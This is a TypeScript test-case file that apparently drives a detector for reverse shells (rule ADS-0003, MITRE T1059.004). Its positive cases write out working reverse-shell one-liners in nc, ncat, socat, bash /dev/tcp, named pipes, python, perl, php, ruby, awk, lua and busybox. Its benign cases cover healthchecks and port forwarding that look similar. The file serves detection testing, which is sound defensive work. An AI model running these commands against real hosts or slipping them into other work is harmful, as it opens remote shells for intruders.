// ADS-0003: reverse shells in every tool and spelling, and the ordinary socket use that resembles them.
import type { Variant } from '../types.js';
import { RULES, tryStep, container, entrypoint, exec, standin, type Spec, variants } from './steps.js';

const rs = [RULES.reverseShell];
const T = 'T1059.004';
const L = '"$LISTEN_HOST" "$LISTEN_PORT"';

/** Shells handed to a socket by nc, ncat, socat, /dev/tcp, FIFOs and python. */
function shellTools(): Spec[] {
  return [
    {
      id: 'rs-busybox-nc-bare-sh',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: [RULES.reverseShell, RULES.reverseShellExec],
      needs: ['listener'],
      description: 'busybox nc through docker exec, -e with a bare `sh` (no path), host and port first.',
      steps: [container({ network: true }), exec(`/bin/nc ${L} -e sh`)],
    },
    {
      id: 'rs-ncat-exec-entrypoint',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: "The container's own command is `ncat --exec /bin/sh HOST PORT` (long option, no docker exec).",
      steps: [entrypoint('/usr/bin/ncat --exec /bin/sh "$0" "$1"', { network: true, args: L })],
    },
    {
      id: 'rs-ncat-flag-group',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: 'ncat on the host with -e inside a flag group: `ncat -nve /bin/bash HOST PORT`.',
      steps: [tryStep(`timeout 5 ncat -nve /bin/bash ${L}`)],
    },
    {
      id: 'rs-ncat-sh-exec',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: 'ncat -c (--sh-exec) running `sh -i` through /bin/sh.',
      steps: [tryStep(`timeout 5 ncat -c "sh -i" ${L}`)],
    },
    {
      id: 'rs-socat-exec',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: 'socat joining a TCP connection to EXEC:/bin/sh with a pty.',
      steps: [tryStep('timeout 5 socat TCP:"$LISTEN_HOST":"$LISTEN_PORT" EXEC:/bin/sh,pty,stderr,setsid')],
    },
    {
      id: 'rs-socat-system-lower',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: 'socat in a container, lower-case address types: tcp-connect:HOST:PORT system:sh.',
      steps: [entrypoint('/usr/bin/socat tcp-connect:"$0":"$1" system:sh', { network: true, args: L })],
    },
    {
      id: 'rs-devtcp-fd5',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: [RULES.reverseShell, RULES.shellNoTty],
      needs: ['listener'],
      description: 'A shell on file descriptor 5 opened to /dev/tcp: `sh -i 5<> /dev/tcp/H/P 0<&5 1>&5 2>&5`.',
      steps: [tryStep('timeout 5 bash -c "sh -i 5<> /dev/tcp/$LISTEN_HOST/$LISTEN_PORT 0<&5 1>&5 2>&5"')],
    },
    {
      id: 'rs-bash-devtcp-entrypoint',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: "The container's own command: bash -c 'bash -i >& /dev/tcp/H/P 0>&1' (bash from the host mount).",
      steps: [entrypoint('/usr/bin/bash -c "bash -i >& /dev/tcp/$0/$1 0>&1"', { network: true, args: L })],
    },
    {
      id: 'rs-fifo-nc',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: [RULES.reverseShell, RULES.shellNoTty],
      needs: ['listener'],
      description: 'Named-pipe shell in a container: mkfifo, cat | sh -i | nc back into the pipe.',
      steps: [entrypoint('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | /bin/nc "$0" "$1" > /tmp/f', { network: true, args: L })],
    },
    {
      id: 'rs-mknod-pipe-telnet',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: 'Named pipe made with `mknod p` and busybox telnet as the client.',
      steps: [entrypoint('mknod /tmp/p p && telnet "$0" "$1" 0</tmp/p | sh 1>/tmp/p', { network: true, args: L })],
    },
    {
      id: 'rs-python-pty',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: 'python3 one-liner: socket, dup2 onto 0/1/2, pty.spawn a shell.',
      steps: [
        tryStep(
          `timeout 5 /usr/bin/python3 -c 'import socket,os,pty,sys;s=socket.socket();s.connect((sys.argv[1],int(sys.argv[2])));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")' ${L}`,
        ),
      ],
    },
  ];
}

/** The same from perl, php, ruby, awk, lua and busybox under other names. */
function interpreterShells(): Spec[] {
  return [
    {
      id: 'rs-perl-socket',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: 'perl one-liner: Socket, STDIN/STDOUT/STDERR onto the socket, exec /bin/sh -i.',
      steps: [
        tryStep(
          `timeout 5 perl -e 'use Socket;$i=$ARGV[0];$p=$ARGV[1];socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' ${L}`,
        ),
      ],
    },
    {
      id: 'rs-php-fsockopen',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      description: 'php -r with fsockopen and exec of /bin/sh (php is a stand-in: the process start is what is read).',
      steps: [standin('php'), tryStep(`"$WORK/bin/php" -r '$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`)],
    },
    {
      id: 'rs-ruby-tcpsocket',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      description: 'ruby -rsocket with TCPSocket and IO.popen (stand-in ruby).',
      steps: [
        standin('ruby'),
        tryStep(`"$WORK/bin/ruby" -rsocket -e 'c=TCPSocket.new("10.0.0.1","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'`),
      ],
    },
    {
      id: 'rs-awk-inet',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      description: "awk's /inet/tcp special file with the co-process operator |& (gawk syntax; mawk refuses it, the start is recorded).",
      steps: [
        tryStep(
          `awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; while(42) { do{ printf "> " |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' </dev/null`,
        ),
      ],
    },
    {
      id: 'rs-lua-socket',
      kind: 'positive',
      family: 'reverse-shell',
      technique: T,
      expect: rs,
      description: "lua with require('socket') and os.execute of a shell (stand-in lua).",
      steps: [
        standin('lua5.3'),
        tryStep(`"$WORK/bin/lua5.3" -e "local s=require('socket');local t=assert(s.tcp());t:connect('10.0.0.1',4444);os.execute('/bin/sh -i <&3 >&3 2>&3')"`),
      ],
    },
    {
      id: 'rs-busybox-selfexe-nc',
      kind: 'positive',
      family: 'multi-call',
      technique: T,
      expect: rs,
      needs: ['listener'],
      description: 'busybox nc re-executed through /proc/self/exe (as busybox sh runs applets): the kernel names it `exe`.',
      steps: [entrypoint('exec -a nc /proc/self/exe "$0" "$1" -e /bin/sh', { network: true, args: L })],
    },
    {
      id: 'rs-busybox-applet-arg',
      kind: 'positive',
      family: 'multi-call',
      technique: T,
      expect: [RULES.reverseShell, RULES.reverseShellExec],
      needs: ['listener'],
      description: '`busybox nc HOST PORT -e /bin/ash` through docker exec: the applet is the first argument.',
      steps: [container({ network: true }), exec(`busybox nc ${L} -e /bin/ash`)],
    },
  ];
}

/** Ordinary workloads that use the same tools. */
function ordinarySockets(): Spec[] {
  return [
    {
      id: 'port-probe-devtcp',
      kind: 'benign',
      family: 'reverse-shell',
      needs: ['listener'],
      description: "docker-compose style healthcheck: bash -c '</dev/tcp/db/5432' only opens and closes the port.",
      steps: [tryStep('timeout 5 bash -c "</dev/tcp/$LISTEN_HOST/$LISTEN_PORT"')],
    },
    {
      id: 'http-probe-devtcp',
      kind: 'benign',
      family: 'reverse-shell',
      needs: ['listener'],
      description: 'Image without curl: an HTTP healthcheck over exec 3<>/dev/tcp, writing a request and reading the answer.',
      steps: [
        tryStep(`timeout 5 bash -c 'exec 3<>/dev/tcp/$LISTEN_HOST/$LISTEN_PORT; printf "GET /health HTTP/1.0\\r\\n\\r\\n" >&3; timeout 1 cat <&3 >/dev/null'`),
      ],
    },
    {
      id: 'wait-for-port-nc',
      kind: 'benign',
      family: 'reverse-shell',
      needs: ['listener'],
      description: 'wait-for-it style start script in a container: `nc -z -w 2 db 5432` until the database answers.',
      steps: [entrypoint('for i in 1 2 3; do /bin/nc -z -w 2 "$0" "$1" && break; sleep 1; done; echo ready', { network: true, args: L })],
    },
    {
      id: 'python-socket-healthcheck',
      kind: 'benign',
      family: 'reverse-shell',
      needs: ['listener'],
      description: 'A Python service healthcheck: socket.create_connection to its dependency, then close.',
      steps: [tryStep(`timeout 5 /usr/bin/python3 -c 'import socket,sys; socket.create_connection((sys.argv[1], int(sys.argv[2])), 2).close()' ${L}`)],
    },
    {
      id: 'socat-port-forward',
      kind: 'benign',
      family: 'reverse-shell',
      description: 'socat as a TCP forwarding sidecar (TCP-LISTEN,fork to TCP:backend), stopped after a second.',
      steps: [tryStep('timeout 1 socat TCP-LISTEN:0,bind=127.0.0.1,fork TCP:127.0.0.1:9')],
    },
    {
      id: 'nginx-log-fifo',
      kind: 'benign',
      family: 'reverse-shell',
      description: 'A log forwarder pattern: mkfifo a pipe the app logs into and a reader that copies it to stdout.',
      steps: [entrypoint('mkfifo /tmp/access.log && (cat /tmp/access.log > /dev/null &) && echo "GET / 200" > /tmp/access.log; sleep 1')],
    },
  ];
}

export function reverseShells(): Variant[] {
  return variants('ADS-0003', [...shellTools(), ...interpreterShells(), ...ordinarySockets()]);
}
